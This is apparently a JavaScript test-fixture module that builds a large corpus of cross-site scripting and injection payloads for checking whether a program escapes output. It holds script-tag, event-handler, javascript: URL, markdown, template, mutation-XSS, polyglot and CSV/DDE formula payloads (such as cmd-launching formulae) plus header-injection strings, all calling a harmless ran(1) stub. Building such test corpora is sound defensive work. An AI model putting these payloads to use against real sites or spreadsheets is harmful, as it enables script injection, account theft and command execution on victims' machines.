// Texts that would run a script, load something or make a formula where a program forgets to escape them.

/** What a payload calls where it runs; `ran` is put into each page by the check. */
const CALL = "ran(1)";

const entities = (text) => [...text].map((it) => `&#${it.codePointAt(0)};`).join("");
const hexadecimal = (text) => [...text].map((it) => `&#x${it.codePointAt(0).toString(16)};`).join("");
const escapes = (text) => [...text].map((it) => `\\u${it.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const percent = (text) => [...text].map((it) => `%${it.charCodeAt(0).toString(16)}`).join("");
const capitals = (text) => [...text].map((it, i) => (i % 2 ? it.toUpperCase() : it)).join("");
const full = (text) => [...text].map((it) => String.fromCodePoint(it.codePointAt(0) + 0xfee0)).join("");

/** Every way to join one of each list. */
const each = (...lists) =>
  lists.reduce((all, list) => all.flatMap((it) => list.map((next) => [...it, next])), [[]]);

/** What ends the place that a text stands in. */
const ENDS = ["", "'>", "\">", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</svg>", "</template>"];

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<script >${CALL}</script >`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script>`,
  `<script\t>${CALL}</script\n>`,
  `<script src=//elsewhere.invalid/x.js></script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<script>${CALL}//`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=data:,${CALL} /></svg>`,
  `<math><script>${CALL}</script></math>`,
];

const EVENTS = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["input autofocus", "onfocus"],
  ["details open", "ontoggle"], ["video src=x", "onerror"], ["audio src=x", "onerror"],
  ["marquee", "onstart"], ["iframe src=x", "onload"], ["object data=x", "onerror"], ["p", "onmouseover"],
  ["a href=# autofocus", "onfocus"], ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"],
  ["button popovertarget=x", "onclick"], ["div popover id=x", "onbeforetoggle"], ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"], ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x to=y", "onbegin"], ["video><source src=x", "onerror"],
  ["div style=animation-name:x", "onanimationstart"], ["p tabindex=0 id=x", "onfocus"],
  ["form", "onformdata"], ["keygen autofocus", "onfocus"], ["math href=javascript:" + CALL, "onclick"],
];

const ATTRIBUTES = [
  "onmouseover", "onfocus", "onerror", "onload", "onclick", "onpointerenter", "onanimationend", "onbeforeinput",
  "onauxclick", "oncontentvisibilityautostatechange", "onscrollend", "ontransitionrun",
];

const SCHEMES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `java\tscript:${CALL}`,
  `java\nscript:${CALL}`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `javascript&#x3A;${CALL}`,
  `${entities("javascript:")}${CALL}`, `${hexadecimal("javascript:")}${CALL}`, `javascript:/*--></title>*/${CALL}`,
  `javascript://elsewhere.invalid/%0a${CALL}`, `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${CALL}>`,
  `vbscript:${CALL}`, `\u0001javascript:${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`,
  `//elsewhere.invalid/x`, `\\\\elsewhere.invalid\\x`, `https:elsewhere.invalid`, `blob:${CALL}`,
  `filesystem:${CALL}`, `jar:javascript:${CALL}!/x`, `${percent("javascript:")}${CALL}`,
];

const TEMPLATES = ["{{ 7 * 7 }}", "{% include \"base.html\" %}", "{{ site.title | safe }}", "{% raw %}", "{% endraw %}",
  "{% set x = 1 %}", "{# x #}", "{{ get_env(name=\"HOME\") }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('" + CALL + "')()}}",
  "[[${7*7}]]", "{php}" + CALL + "{/php}", "{{__tera_context}}", "{% block main %}x{% endblock %}", "{% extends \"x\" %}", "{{ say(id=\"skip\") | safe }}"];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<listing>&lt;img onerror="${CALL}" src=x&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`, `<!--!><img src=x onerror=${CALL}>`, `<!-- --!><img src=x onerror=${CALL}>`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`, `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<title><img src=x onerror=${CALL}></title>`,
  `<iframe srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`, `<iframe src=javascript:parent.${CALL}></iframe>`,
  `<plaintext><img src=x onerror=${CALL}>`, `<base href=//elsewhere.invalid/>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=import href=//elsewhere.invalid/x>`, `<object data=javascript:${CALL}></object>`, `<embed src=javascript:${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`, `<form action=javascript:${CALL}><button>x</button></form>`, `<button formaction=javascript:${CALL}>x</button>`,
  `<svg><a xlink:href=javascript:${CALL}><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<style>@import "//elsewhere.invalid/x.css";</style>`, `<p style="background:url(//elsewhere.invalid/x)">`, `<img src=//elsewhere.invalid/x>`,
  `<isindex action=javascript:${CALL} type=image>`, `<table background=javascript:${CALL}>`, `<img srcset="x 1x" onerror=${CALL}>`,
];

const MARKDOWN = SCHEMES.flatMap((it) => [`[x](${it})`, `[x](<${it}>)`, `![x](${it})`, `<${it}>`, `[x]: ${it}`]).concat([
  `[x](https://a.invalid "\\"onmouseover=${CALL} x=\\"")`, `[x](https://a.invalid/'onmouseover=${CALL}//)`, `[<img src=x onerror=${CALL}>](https://a.invalid)`,
  `[\`<img src=x onerror=${CALL}>\`](/metode/)`, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `[^<script>${CALL}</script>]`, `<https://a.invalid/"onmouseover=${CALL}>`,
  `**<b onmouseover=${CALL}>**`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `\\<script>${CALL}\\</script>`, `<a@b.invalid"onmouseover=${CALL}>`,
]);

const DATA = [
  `</script><script>${CALL}</script>`, `<!--<script>`, `<!--<script>${CALL}//-->`, `","x":"</script><img src=x onerror=${CALL}>`,
  `\\"};${CALL};//`, `"};${CALL};//`, `\\u003c/script>\\u003cscript>${CALL}`, `${escapes("</script>")}<script>${CALL}</script>`,
  `</SCRIPT ><svg onload=${CALL}>`, `\u2028${CALL}`, `\u2029${CALL}`, `'-${CALL}-'`, `\\'-${CALL}//`, `\`-${CALL}-\``, `\${${CALL}}`,
  `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`, `</summary><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "x.dtd">]>&y;`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`, `&x;`, `&#0;`, `&#x110000;`, `%3Cscript%3E${CALL}%3C/script%3E`, `*/${CALL}/*`, `}</style><script>${CALL}</script>`,
  `}*{background:url(//elsewhere.invalid/x)}`, `expression(${CALL})`, `-moz-binding:url(//elsewhere.invalid/x)`, `\r\nSet-Cookie: x=y`, `\n  X-Frame-Options: ALLOWALL`,
  `x /* 301\n/y /z 301`, `))|(${CALL})|((`, `[`, `(?=`, `x{`, `.*+?^$`, `__proto__`, `constructor`, `toString`,
];

const FORMULAE = each(
  ["=", "+", "-", "@", "\t=", "\r=", " =", "'=", "''=", "＝", "＋", "－", "＠", "\"=", ";=", ",="],
  ["cmd|'/C calc'!A0", "HYPERLINK(\"https://elsewhere.invalid\",\"x\")", "1+1", "SUM(1)*cmd|' /C x'!A0", "WEBSERVICE(\"//elsewhere.invalid\")", "DDE(\"cmd\";\"/C calc\")"],
).map((it) => it.join(""));

const FULL = [`<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `"onmouseover=${CALL}`, `javascript:${CALL}`];

const POLYGLOTS = each(
  ["jaVasCript:", "`", "'", "\"", "*/", "//"],
  ["/*--></title></style></textarea></script></xmp>", "--><!--", "\"'>", "</noscript>"],
  [`<svg/onload=${CALL}>`, `<img/src/onerror=${CALL}>`, `*/${CALL}//`],
).map((it) => it.join(""));

const families = {
  scripts: each(ENDS, SCRIPTS).map((it) => it.join("")),
  events: EVENTS.flatMap(([tag, event]) => [
    `<${tag} ${event}=${CALL}>`, `"><${tag} ${event}="${CALL}">`, `'><${tag}/${event}='${CALL}'>`, `<${capitals(tag)} ${capitals(event)}=${entities(CALL)}>`,
  ]),
  "event handlers after any end": each(ENDS, EVENTS.slice(0, 6)).map(([end, [tag, event]]) => `${end}<${tag} ${event}=${CALL}>`),
  attributes: each(["\"", "'", "` ", "\" ", " ", "\"/"], ATTRIBUTES).map(([end, event]) => `x${end}${event}=${CALL} autofocus tabindex=0 x=${end.trim()}`),
  addresses: SCHEMES,
  markdown: MARKDOWN,
  templates: TEMPLATES,
  mutations: MUTATIONS,
  data: DATA,
  formulae: FORMULAE,
  entities: FULL.flatMap((it) => [entities(it), hexadecimal(it), percent(it), escapes(it), it.replaceAll("<", "&lt;"), it.replaceAll("<", "\\x3c")]),
  "other letters": FULL.flatMap((it) => [it.replaceAll("<", "＜").replaceAll(">", "＞"), full(it), it.replaceAll("<", "‹"), it.replaceAll("s", "ſ")]),
  control: ["\u0000", "\u0007", "\u000b", "\u001b[31m", "\u009b31m", "\u202e", "\u200b", "\u2066", "\ufeff", "\u00ad"].flatMap((it) => [
    `<scr${it}ipt>${CALL}</script>`, `<img${it} src=x onerror=${CALL}>`, `java${it}script:${CALL}`,
  ]),
  polyglots: POLYGLOTS,
  short: ["<b>", "<i x", "</p>", "'\"><b>", "<!--", "-->", "&lt;b", "\"x=1", "'x=1", "<br>", "{{1}}", "{%1%}", "=1+1", "+1", "-1", "@x", "<a>", "<u>1", "&amp;", "&#60;", "<s", "\\", "\\\"", "`", "$&", "$1", "%s", "%00"],
};

/** All payloads, each once: its text and its family. */
export const payloads = [...new Map(
  Object.entries(families).flatMap(([family, texts]) => texts.map((text) => [text, { family, text }])),
).values()];

/** The families of payloads. */
export const familyNames = Object.keys(families);
